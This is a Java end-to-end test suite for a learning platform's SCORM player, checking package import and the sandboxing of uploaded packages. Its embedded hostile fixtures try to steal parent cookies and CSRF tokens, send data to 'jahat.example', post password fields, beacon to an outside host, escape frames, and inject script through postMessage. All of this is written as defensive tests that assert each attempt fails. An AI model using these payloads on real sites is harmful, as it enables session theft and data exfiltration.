package id.netral.journey;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.FrameLocator;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.PlaywrightException;
import com.microsoft.playwright.assertions.LocatorAssertions;
import com.microsoft.playwright.assertions.PlaywrightAssertions;
import id.netral.LongTest;
import id.netral.TestDatabase;
import id.netral.TestUsers;
import id.netral.catalog.Catalog;
import id.netral.learning.CompletedBy;
import id.netral.scorm.PackageReview;
import id.netral.scorm.ScormPackages;
import id.netral.scorm.TestPackage;
import id.netral.security.Role;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.security.core.context.SecurityContextHolder;

/** A trainer brings a package of another maker in; learners do the module with it; a hostile one gets nowhere. */
@LongTest
@JourneyTest
class ScormIT {

    private static final String TRAINER = "198001012005011001";
    private static final String REVIEWER = "197501012000031003";
    private static final String LEARNER = "199001012015012002";

    /** Tries what it must not be able to, and writes down what became of it. */
    private static final String HOSTILE = """
        <!DOCTYPE html>
        <html lang="id"><head><meta charset="utf-8"><title>Jahat</title></head><body><h1>Jahat</h1><ul id="hasil"></ul>
        <script>
        const list = document.getElementById('hasil');
        const note = (what, outcome) => {
          const item = document.createElement('li');
          item.textContent = what + ': ' + outcome;
          list.append(item);
        };
        const attempt = (what, work) => {
          try { const got = work(); note(what, got === undefined ? 'ditahan' : 'LOLOS ' + got); }
          catch (e) { note(what, 'ditahan'); }
        };
        attempt('kuki induk', () => window.top.document.cookie);
        attempt('isi induk', () => window.top.document.body.innerHTML);
        attempt('kuki sendiri', () => document.cookie + '|');
        attempt('simpanan', () => window.top.localStorage.length);
        attempt('alamat induk', () => window.top.location.href);
        attempt('jendela baru', () => window.open('/profil') || undefined);
        attempt('pindah induk', () => { window.top.location = '/profil'; return undefined; });
        const ask = async (what, url, options) => {
          try {
            const response = await fetch(url, options);
            note(what, 'LOLOS ' + response.type + response.status);
          } catch (e) { note(what, 'ditahan'); }
        };
        const origin = new URL(document.querySelector('script').src).origin;
        const form = document.createElement('form');
        form.method = 'post'; form.action = origin + '/keluar'; form.target = '_top';
        document.body.append(form);
        (async () => {
          await ask('token csrf', origin + '/api/csrf', { credentials: 'include' });
          await ask('tanpa cors', origin + '/api/csrf', { credentials: 'include', mode: 'no-cors' });
          await ask('simpan hasil', origin + '/api/scorm/1', { method: 'PUT', body: '{}', credentials: 'include' });
          await ask('ke luar', 'https://jahat.example/?data=1', { mode: 'no-cors' });
          const beacon = new Image();
          beacon.onload = () => note('gambar', 'LOLOS');
          beacon.onerror = () => note('gambar', 'ditahan');
          beacon.src = origin + '/icons/netral.svg';
          try { form.submit(); } catch (e) { /* held back */ }
          for (const target of [window.top, window.parent]) {
            target.postMessage({ mark: 'netral-scorm', kind: 'finish', seq: 'x', values: {} }, '*');
            target.postMessage({ mark: 'netral-scorm', kind: '<img src=x onerror=alert(1)>', seq: 1 }, '*');
          }
          setTimeout(() => note('akhir', 'selesai'), 500);
        })();
        </script></body></html>
        """;

    /** Tries to carry something to a stranger without leaving its place; says when it is through. */
    private static final String CARRYING = """
        <!DOCTYPE html>
        <html lang="id"><head><meta charset="utf-8"><title>Jahat</title>
        <link rel="prefetch" href="ASING/?prefetch"><link rel="preconnect" href="ASING">
        <link rel="stylesheet" href="ASING/?gaya"></head><body>
        <form id="pancing" method="post" action="ASING/?formulir">
        <input name="sandi" type="password" value="rahasia"></form>
        <ol id="hasil"></ol>
        <script>
        const tries = {
          formulir: () => pancing.submit(),
          'formulir dengan tombol': () => pancing.requestSubmit(),
          'formulir ambil': () => { pancing.method = 'get'; pancing.submit(); },
          'formulir ke atas': () => { pancing.target = '_top'; pancing.submit(); },
          'formulir ke jendela baru': () => { pancing.target = '_blank'; pancing.submit(); },
          'tautan ke atas': () => link('_top'),
          'tautan ke induk': () => link('_parent'),
          'tautan ke jendela baru': () => link('_blank'),
          ping: () => { const a = document.createElement('a'); a.href = '#'; a.ping = 'ASING/?ping'; a.click(); },
          'pindah atas': () => { window.top.location.href = 'ASING/?atas'; },
          'ganti atas': () => { window.top.location.replace('ASING/?ganti'); },
          'jendela baru': () => { window.open('ASING/?jendela'); },
          bingkai: () => frame((one) => { one.src = 'ASING/?bingkai'; }),
          'bingkai kosong': () => frame((one) => { one.contentWindow.location = 'ASING/?kosong'; }),
          'bingkai dengan isi': () => frame((one) => {
            one.srcdoc = '<meta http-equiv=refresh content="0;url=ASING/?isi">';
          }),
          'bingkai data': () => frame((one) => {
            one.src = 'data:text/html,<script>location="ASING/?data"<' + '/script>';
          }),
          objek: () => { const one = document.createElement('object'); one.data = 'ASING/?objek'; document.body.append(one); },
          suar: () => navigator.sendBeacon('ASING/?suar', 'rahasia'),
          ambil: () => fetch('ASING/?ambil', { mode: 'no-cors' }).catch(() => {}),
          gambar: () => { new Image().src = 'ASING/?gambar'; },
          soket: () => new WebSocket('ASING/?soket'.replace('http', 'ws')),
          siaran: () => new EventSource('ASING/?siaran'),
          pekerja: () => new Worker('ASING/?pekerja'),
          skrip: () => { const one = document.createElement('script'); one.src = 'ASING/?skrip'; document.head.append(one); },
          latar: () => { document.body.style.backgroundImage = 'url(ASING/?latar)'; },
          layar: () => document.documentElement.requestFullscreen().catch(() => {}),
        };
        function link(target) {
          const a = document.createElement('a');
          a.href = 'ASING/?tautan'; a.target = target; document.body.append(a); a.click();
        }
        function frame(work) {
          const one = document.createElement('iframe');
          document.body.append(one); work(one);
        }
        (async () => {
          for (const [name, work] of Object.entries(tries)) {
            try { work(); } catch (e) { /* held back */ }
            await new Promise((next) => setTimeout(next, 60));
            hasil.insertAdjacentHTML('beforeend', `<li>${name}</li>`);
          }
          await new Promise((next) => setTimeout(next, 500));
          const api = window.API;
          api.LMSInitialize('');
          api.LMSSetValue('cmi.core.lesson_location', document.fullscreenElement ? 'LOLOS' : 'tetap');
          api.LMSCommit('');
          document.title = 'selesai';
          hasil.insertAdjacentHTML('beforeend', '<li>selesai</li>');
        })();
        </script></body></html>
        """;

    @LocalServerPort
    int port;

    @Autowired
    TestDatabase database;

    @Autowired
    Cast cast;

    @Autowired
    ScormPackages packages;

    @Autowired
    PackageReview review;

    @Autowired
    Catalog catalog;

    @Autowired
    JdbcClient jdbc;

    @TempDir
    Path folder;

    @BeforeAll
    static void patience() {
        PlaywrightAssertions.setDefaultAssertionTimeout(30_000);
    }

    @BeforeEach
    void people() {
        remove();
        database.reset();
        cast.person(TRAINER, "Tri Contoh", "Dinas Teladan", Role.PELATIH);
        cast.person(REVIEWER, "Rudi Contoh", "Dinas Teladan", Role.PENINJAU);
        cast.person(LEARNER, "Lia Contoh", "Dinas Teladan");
    }

    @AfterEach
    void remove() {
        jdbc.sql("DELETE FROM scorm_attempt").update();
        jdbc.sql("DELETE FROM scorm_package").update();
    }

    @Test
    void aPackageIsTakenInBegunResumedAndPassed() {
        bringIn(TestPackage.lesson());
        try (var learner = new Visitor(Browsers.phone(), port)) {
            learner.signIn(LEARNER, Cast.PASSWORD).open("modul/aurat-politik");
            learner.link("Paket uji").click();
            var part = part(learner);
            assertThat(part.locator("#masuk")).hasText("ab-initio");
            assertThat(part.locator("h1")).hasCSS("color", "rgb(11, 74, 72)");
            part.locator("#lanjut").click();
            part.locator("#lanjut").click();
            learner.sees("Sedang berjalan");
            learner.sees("Tersimpan.");
            Look.at(learner, "scorm-phone");

            learner.page().reload();
            assertThat(part.locator("#tempat")).hasText("3");
            assertThat(part.locator("#catatan")).hasText("halaman=3");
            part.locator("#tunda").click();
            learner.sees("Tersimpan.");
            learner.page().reload();
            assertThat(part.locator("#masuk")).hasText("resume");
            assertThat(part.locator("#tempat")).hasText("3");

            part.locator("#selesai").click();
            learner.sees("Lulus");
            learner.sees("Nilai 87,5");
            learner.sees("Hasilnya sudah masuk riwayat Anda");
            learner.open("riwayat");
            learner.sees("87,5");
        }
        assertThat(jdbc.sql("SELECT evidence FROM completion")
                        .query(String.class)
                        .list())
                .containsExactly("SCORM");
    }

    @Test
    void aHostilePackageReachesNothingAroundIt() {
        offer(TestPackage.lesson().with("isi/index.html", HOSTILE));
        try (var learner = new Visitor(Browsers.desktop(), port)) {
            learner.signIn(LEARNER, Cast.PASSWORD).open("modul/aurat-politik");
            learner.link("Paket uji").click();
            var part = part(learner);
            assertThat(part.locator("#hasil")).containsText("akhir: selesai");
            assertThat(part.locator("#hasil")).containsText("gambar");
            assertThat(part.locator("#hasil li").allTextContents())
                    .as("what a hostile package achieved")
                    .hasSizeGreaterThan(12)
                    .noneMatch(line -> line.contains("LOLOS"));
            assertThat(learner.page().url()).contains("/paket/");
            assertThat(learner.page().context().pages()).hasSize(1);
            Look.at(learner.page(), "scorm-hostile");
            learner.open("profil");
            learner.sees("Lia Contoh");
        }
        assertThat(jdbc.sql("SELECT COUNT(*) FROM completion")
                        .query(Integer.class)
                        .single())
                .isZero();
    }

    @Test
    void aHostilePackageCarriesNothingToAStranger() throws Exception {
        try (var stranger = new Stranger()) {
            offer(TestPackage.lesson().with("isi/index.html", CARRYING.replace("ASING", stranger.address())));
            try (var learner = new Visitor(Browsers.desktop(), port)) {
                learner.framesMayBeRefused();
                learner.signIn(LEARNER, Cast.PASSWORD).open("modul/aurat-politik");
                learner.link("Paket uji").click();
                assertThat(part(learner).locator("#hasil")).containsText("selesai");
                learner.sees("Tersimpan.");
                assertThat(learner.page().url()).contains("/paket/");
                assertThat(learner.page().context().pages()).hasSize(1);
            }
            assertThat(stranger.asked()).as("what reached the stranger").isEmpty();
        }
        assertThat(jdbc.sql("SELECT state FROM scorm_attempt")
                        .query(String.class)
                        .single())
                .contains("tetap");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "location.href = 'ASING/?alamat'",
                "location.replace('ASING/?ganti')",
                "const a = document.createElement('a'); a.href = 'ASING/?tautan'; document.body.append(a); a.click()",
                "document.body.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh"
                        + " content=\"0;url=ASING/?segar\">')",
                "document.open(); document.write('<script>location=\"ASING/?tulis\"<' + '/script>'); document.close()",
                "location.href = 'data:text/html,<script>location=\"ASING/?data\"<' + '/script>'",
                "location.href = URL.createObjectURL(new Blob(['<script>location=\"ASING/?gumpal\"<' + '/script>'],"
                        + " { type: 'text/html' }))",
                "location.href = new URL(document.querySelector('script').src).origin + '/masuk'",
            })
    void aHostilePackageCannotLeadItsFrameAway(String script) throws Exception {
        try (var stranger = new Stranger()) {
            var page = "<!DOCTYPE html><html><head></head><body><h1>Jahat</h1><script>setTimeout(() => {"
                    + script.replace("ASING", stranger.address()) + "}, 300)</script></body></html>";
            offer(TestPackage.lesson().with("isi/index.html", page));
            try (var learner = new Visitor(Browsers.desktop(), port)) {
                var refused = new CopyOnWriteArrayList<String>();
                learner.framesMayBeRefused();
                learner.page().onConsoleMessage(said -> {
                    if (said.text().startsWith("Framing")) {
                        refused.add(said.text());
                    }
                });
                learner.signIn(LEARNER, Cast.PASSWORD).open("modul/aurat-politik");
                learner.link("Paket uji").click();
                learner.page()
                        .waitForCondition(
                                () -> !refused.isEmpty() || !stranger.asked().isEmpty());
                assertThat(stranger.asked()).as("what reached the stranger").isEmpty();
                assertThat(learner.page().frames())
                        .as("what is shown in a frame")
                        .noneMatch(frame -> frame != learner.page().mainFrame()
                                && frame.url().contains("/masuk"));
                assertThat(learner.page().url()).contains("/paket/");
            }
        }
    }

    /** At the agency's own address a page of a stranger could pass for the agency's sign-in. */
    @Test
    void aPageOfAPackageIsNoPageOfOurAddress() {
        offer(TestPackage.lesson());
        try (var learner = new Visitor(Browsers.desktop(), port)) {
            learner.signIn(LEARNER, Cast.PASSWORD).open("modul/aurat-politik");
            learner.link("Paket uji").click();
            assertThat(part(learner).locator("#masuk")).hasText("ab-initio");
            var address = learner.page().frames().getLast().url();
            var answers = new CopyOnWriteArrayList<Integer>();
            learner.page().onResponse(answer -> {
                if (answer.url().equals(address)) {
                    answers.add(answer.status());
                }
            });
            try {
                learner.page().navigate(address);
            } catch (PlaywrightException refused) {
                // the browser shows a page of its own
            }
            learner.page().waitForCondition(() -> !answers.isEmpty());
            assertThat(answers).containsExactly(403);
            assertThat(learner.page().locator("#masuk")).hasCount(0);
        }
    }

    @Test
    void aPageOfAPackageHasNoOrigin() {
        offer(TestPackage.lesson()
                .with(
                        "isi/index.html",
                        "<!DOCTYPE html><html><head></head><body>"
                                + "<p id='asal'></p><script>asal.textContent = self.origin</script></body></html>"));
        try (var learner = new Visitor(Browsers.desktop(), port)) {
            learner.signIn(LEARNER, Cast.PASSWORD).open("modul/aurat-politik");
            learner.link("Paket uji").click();
            var part = part(learner);
            assertThat(part.locator("#asal")).hasText("null");
        }
    }

    @Test
    void aPackageHearsTheErrorsOfTheStandard() {
        offer(TestPackage.lesson());
        try (var learner = new Visitor(Browsers.desktop(), port)) {
            learner.signIn(LEARNER, Cast.PASSWORD).open("modul/aurat-politik");
            learner.link("Paket uji").click();
            assertThat(part(learner).locator("#masuk")).hasText("ab-initio");
            var frame = learner.page().frames().getLast();
            var heard = frame.evaluate("""
                () => {
                  const api = window.API;
                  const heard = [];
                  const hear = (result) => heard.push(result + ' ' + api.LMSGetLastError());
                  hear(api.LMSInitialize(''));
                  hear(api.LMSGetValue('cmi.core._children').includes('lesson_status'));
                  hear(api.LMSGetValue('cmi.core.exit'));
                  hear(api.LMSSetValue('cmi.core.student_id', 'x'));
                  hear(api.LMSSetValue('cmi.core._children', 'x'));
                  hear(api.LMSSetValue('cmi.core.lesson_status', 'menang'));
                  hear(api.LMSSetValue('cmi.core.score.raw', '101'));
                  hear(api.LMSGetValue('cmi.tidak.ada'));
                  hear(api.LMSGetValue('cmi.interactions._count'));
                  hear(api.LMSSetValue('cmi.interactions.0.id', 'soal-1'));
                  hear(api.LMSGetValue('cmi.interactions._count'));
                  hear(api.LMSSetValue('cmi.interactions.5.id', 'soal-6'));
                  hear(api.LMSFinish(''));
                  hear(api.LMSGetValue('cmi.core.lesson_status'));
                  heard.push(api.LMSGetErrorString('301'));
                  return heard;
                }""");
            assertThat(heard)
                    .isEqualTo(List.of(
                            "false 101",
                            "true 0",
                            " 404",
                            "false 403",
                            "false 402",
                            "false 405",
                            "false 405",
                            " 401",
                            "0 0",
                            "true 0",
                            "1 0",
                            "false 201",
                            "true 0",
                            " 301",
                            "Not initialized"));
        }
    }

    private void bringIn(TestPackage files) {
        try (var trainer = new Visitor(Browsers.desktop(), port)) {
            trainer.signIn(TRAINER, Cast.PASSWORD).open("paket-scorm");
            var module = trainer.page().getByLabel("Modul").first();
            module.fill("Aurat");
            trainer.page().locator("vaadin-combo-box-item").first().click();
            trainer.page().getByText("Paket saja").click();
            trainer.settle();
            var file = trainer.page().locator("input[type=file]").first();
            file.setInputFiles(files.in(folder));
            seesState(trainer, "Menunggu tinjauan");
            Look.at(trainer, "scorm-packages");
        }
        try (var reviewer = new Visitor(Browsers.desktop(), port)) {
            reviewer.signIn(REVIEWER, Cast.PASSWORD).open("paket-scorm");
            reviewer.link("Tinjau paket Paket uji").click();
            reviewer.sees("menurut laporan paket itu sendiri");
            assertThat(reviewer.page().locator("scorm-player iframe")).isVisible();
            Look.at(reviewer, "scorm-review");
            reviewer.button("Setujui").click();
            seesState(reviewer, "Dapat dibuka");
        }
    }

    private static void seesState(Visitor visitor, String state) {
        assertThat(visitor.page().locator(".badge", new Page.LocatorOptions().setHasText(state)))
                .isVisible(new LocatorAssertions.IsVisibleOptions().setTimeout(30_000));
    }

    /** As by the screens, without them. */
    private void offer(TestPackage files) {
        try {
            TestUsers.signIn(null);
            files.offer(
                    packages,
                    review,
                    catalog.current("aurat-politik").orElseThrow().module(),
                    CompletedBy.PACKAGE,
                    folder);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } finally {
            SecurityContextHolder.clearContext();
        }
    }

    private static FrameLocator part(Visitor learner) {
        Page page = learner.page();
        Locator frame = page.locator("scorm-player iframe");
        assertThat(frame).isVisible();
        return page.frameLocator("scorm-player iframe");
    }
}
